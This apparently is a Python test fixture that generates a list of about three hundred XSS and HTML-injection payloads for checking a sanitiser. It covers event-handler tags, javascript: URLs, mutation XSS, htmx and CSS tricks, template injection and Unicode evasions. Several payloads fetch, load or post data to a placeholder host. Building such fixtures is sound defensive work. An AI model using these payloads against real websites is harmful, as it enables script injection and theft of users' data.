"""Three hundred texts that try to run a script, reach another host or become an element, each in its own way."""

from __future__ import annotations

from itertools import cycle, product

#: A host that no page of ours has a reason to ask.
CANARY = "canary.invalid"
#: In a page, whether a text has run; a dialog and a request to CANARY show it as well.
ALARM = "window.pwned !== undefined"
_ACTS = ("alert(1)", "window.pwned=1", f"fetch(`https://{CANARY}/f`)")

_ENDS = (
    "", '">', "'>", "`>", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</p>\n",
)  # fmt: skip
_TAGS = (
    "<script>§</script>",
    "<img src=x onerror=§>",
    "<svg onload=§>",
    "<ScRiPt\t>§</sCrIpT\n>",
    '<iframe srcdoc="<script>parent.§</script>">',
    "<details open ontoggle=§>",
    "<input autofocus onfocus=§>",
    "<video><source onerror=§>",
)
_QUOTES = ('"', "'", "`", "&quot;", "&#39;", '\\"', "")
_HANDLERS = (
    " onmouseover={q}§{q} x={q}",
    " autofocus tabindex=1 onfocus={q}§{q} x={q}",
    " style={q}animation-name:x{q} onanimationstart={q}§{q} x={q}",
    "/onclick={q}§{q}/accesskey={q}x",
)
_ADDRESSES = (
    "javascript:§", "JaVaScRiPt:§", "java\tscript:§", "java\nscript:§", "\x01javascript:§", " javascript:§",
    "javascript&colon;§", "&#106;avascript:§", "&#x6A&#x61vascript:§", "javascript://%0A§", "javascript:/*--></a>*/§",
    "data:text/html,<script>§</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg onload=§>", "https://canary.invalid/x", 'https://canary.invalid/x" onload="§',
    "https://good.example@canary.invalid/", "https:\\\\canary.invalid\\x", "http://canary.invalid/'onerror='§",
)  # fmt: skip
_DRAWINGS = (
    "<svg><script>§</script></svg>", "<svg><script href=data:,§></script></svg>",
    "<svg><animate onbegin=§ attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:§ /></svg>",
    '<svg><a xlink:href="javascript:§"><text y=9>x</text></a></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='§'/>#x\"/></svg>",
    "<svg><foreignObject><img src=x onerror=§></foreignObject></svg>",
    "<svg><image href=https://canary.invalid/i /></svg>", "</text></svg><svg onload=§>",
    "<svg><desc><![CDATA[</desc><script>§</script>]]></svg>",
    "<svg><style>@import url(https://canary.invalid/c);</style></svg>",
    "<svg><title><img src=x onerror=§></title></svg>", "<math><mtext><img src=x onerror=§></mtext></math>",
    '<math><maction xlink:href="javascript:§">x</maction></math>',
    "<math><annotation-xml encoding='text/html'><img src=x onerror=§></annotation-xml></math>",
    "<svg><discard onbegin=§>", "<svg><feImage href=https://canary.invalid/f /></svg>",
    "<?xml-stylesheet href=https://canary.invalid/?>",
)  # fmt: skip
_MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror=§>'>", "<svg></p><style><a id='</style><img src=x onerror=§>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=§&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>",
    "<template><img src=x onerror=§></template><script>§</script>", "<xmp><p title='</xmp><img src=x onerror=§>'>",
    "<select><template><script>§</script></template></select><img src=x onerror=§>", "<!--><img src=x onerror=§>-->",
    "<!--!><img src=x onerror=§>", "<![CDATA[><img src=x onerror=§>]]>", "<plaintext><img src=x onerror=§>",
    "<listing>&lt;img src=x onerror=§&gt;</listing><img src=x onerror=§>",
    "<table><tr><td></table></td><img src=x onerror=§>", "&lt;img src=x onerror=§&gt;", "&amp;lt;script&amp;gt;§",
    "<img src='x`' `onerror=§>", "<a/href=x><img/src/onerror=§>", "<<img src=x onerror=§>//<",
)  # fmt: skip
_HTMX = (
    "<div hx-get=https://canary.invalid/h hx-trigger=load></div>",
    "<div data-hx-get=/ hx-trigger='load' hx-target=body></div>", "<p hx-on:click=§>x</p>", "<p hx-on::load=§>x</p>",
    "<p data-hx-on--load=§>x</p>", '" hx-get="/" hx-trigger="load" x="',
    "' hx-post='https://canary.invalid/p' hx-trigger='load", "<p hx-vals='js:{a:§}' hx-get=/ hx-trigger=load></p>",
    "<p hx-trigger='load[§]' hx-get=/></p>", "<p hx-ext=x hx-swap-oob=true id=main>x</p>",
    "<meta name=htmx-config content='{\"allowEval\":true}'>",
    "<body hx-boost=true hx-push-url=https://canary.invalid/>",
)  # fmt: skip
_STYLES = (
    "<style>@import 'https://canary.invalid/s';</style>", "<style>*{background:url(https://canary.invalid/b)}</style>",
    "<link rel=stylesheet href=https://canary.invalid/l>", "<p style=background:url(https://canary.invalid/p)>x</p>",
    "}*{background:url(https://canary.invalid/r)}/*",
    "</style><style>:root{--x:url(https://canary.invalid/v)}body{background:var(--x)}",
    "<p style=width:expression(§)>x</p>", "<link rel=prefetch href=https://canary.invalid/n>",
    "*/}body{display:none}/*", "<style>input[value^=a]{background:url(https://canary.invalid/k)}</style>",
)  # fmt: skip
_DOCUMENTS = (
    "<meta http-equiv=refresh content='0;url=javascript:§'>",
    "<meta http-equiv=refresh content=0;url=https://canary.invalid/m>", "<base href=https://canary.invalid/>",
    "<form action=javascript:§><button autofocus>x</button></form>",
    "<form action=https://canary.invalid/o><input name=token>", "<button form=x formaction=javascript:§>x</button>",
    '<script type=importmap>{"imports":{"x":"data:text/javascript,§"}}</script><script type=module>import "x"</script>',
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://canary.invalid/u\"]}]}</script>",
    "<object data=data:text/html,<script>§</script>></object>", "<embed src=https://canary.invalid/e>",
    "<iframe src=javascript:parent.§></iframe>", "<iframe src=https://canary.invalid/i></iframe>",
    "<script src=data:,§></script>", "<script>/*", "<script async src=https://canary.invalid/j></script>",
)  # fmt: skip
_CLOBBERS = (
    "<img name=getElementById>", "<form id=htmx><input name=config></form>", "<a id=main href=javascript:§>x</a>",
    "<form name=body><img src=x onerror=§>", "<iframe name=self srcdoc=x></iframe>",
    "<input id=length><img src=x onerror=§>", "__proto__", "constructor",
    "<a id=location href=https://canary.invalid/>x</a>",
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:§)", "[x](<javascript:§>)", "[x](JaVaScRiPt:§ 'y')", "[x](data:text/html,<script>§</script>)",
    "![x](https://canary.invalid/a.png)", "![x](https://canary.invalid/b 'y\" onerror=\"§')",
    "[![x](https://canary.invalid/c)](javascript:§)", "[x]: javascript:§\n\n[x]",
    "![x][y]\n\n[y]: https://canary.invalid/d", "<javascript:§>", "<https://canary.invalid/e>",
    "https://canary.invalid/f", "www.canary.invalid", "someone@canary.invalid", "[x][]\n[x]: https://canary.invalid",
    "```\n```\n<img src=x onerror=§>\n```", "~~~html\n~~~\n<script>§</script>", "`` ` ``<img src=x onerror=§>``",
    "x | w\n--- | ---\n<img src=x onerror=§> | z", "|\n\n<script>§</script>\n\n|", "\\<img src=x onerror=§>",
    "\\[x](javascript:§)", "\\\\[x](javascript:§)", "*<b>*<img src=x onerror=§>", "# <svg onload=§>",
    "> <img src=x onerror=§>", "- <img src=x onerror=§>", "1. ![x](https://canary.invalid/g)",
    "[^1]\n\n[^1]: <img src=x onerror=§>", "$`<img src=x onerror=§>`$", "![x](\\\njavascript:§)",
    "<details>\n\n![x](https://canary.invalid/h)\n\n</details>", "\n***\n\n<img src=x onerror=§>\n",
    "@adjudge/everyone #1 GH-1 !1 https://canary.invalid/i", "&#91;x](javascript:§)",
    "\n    ![x](https://canary.invalid/k)",
)  # fmt: skip
_TEMPLATES = (
    "{{constructor.constructor('§')()}}", "${§}", "#{§}", "<%= § %>", "{% raw %}<img src=x onerror=§>{% endraw %}",
    "{{''.__class__.__mro__}}<img src=x onerror=§>", "$title<img src=x onerror=§>", "%s%(x)s<img src=x onerror=§>",
    "{0.__class__}<img src=x onerror=§>", "<div ng-app ng-csp>{{§}}</div>",
)  # fmt: skip
_LETTERS = (
    "\uff1cscript\uff1e§\uff1c/script\uff1e", "\u02c2img src=x onerror=§\u02c3", "<\x00img src=x onerror=§>",
    "<img\x0csrc=x\x0bonerror=§>", "<\u200bscript>§</script>", "\ufeff<script>§</script>",
    "<scr\u00adipt>§</scr\u00adipt>", "\u202e>)1(trela=rorreno gmi<\u202c<img src=x onerror=§>",
    "\u2066<svg onload=§>\u2069", "\ud800<img src=x onerror=§>", "\udfff\"><svg onload=§>",
    "\u2028<script>§</script>\u2029", "\x1b]8;;javascript:§\x07x\x1b]8;;\x07<img src=x onerror=§>",
    "<img src=x onerror=§>" + "A" * 3000, "\x85<script>§</script>\x9c", "+ADw-script+AD4-§+ADw-/script+AD4-",
    "<\u0301img src=x onerror=§>", "\ufffe<img src=x onerror=§>\uffff", "\u0130<script>§</script>\u017f",
    "\U000e003cscript\U000e003e§", "\r\n\r\n<script>§</script>", "Set-Cookie: a=1\r\n\r\n<img src=x onerror=§>",
    "%3Cscript%3E§%3C/script%3E", "\\u003cscript\\u003e§\\u003c/script\\u003e", "\\x3cimg src=x onerror=§\\x3e",
    "';§//", '";§//', "`;§//", "</script><script>§//",
)  # fmt: skip


def _all() -> list[str]:
    """Each spelling once, § being what it tries to do; the acts take turns."""
    spelled = [
        *(end + tag for end, tag in product(_ENDS, _TAGS)),
        *(quote + handler.replace("{q}", quote) for quote, handler in product(_QUOTES, _HANDLERS)),
        *(*_ADDRESSES, *_DRAWINGS, *_MUTATIONS, *_HTMX, *_STYLES, *_DOCUMENTS),
        *(*_CLOBBERS, *_MARKDOWN, *_TEMPLATES, *_LETTERS),
    ]
    return [text.replace("§", act) for text, act in zip(spelled, cycle(_ACTS), strict=False)]


PAYLOADS = _all()
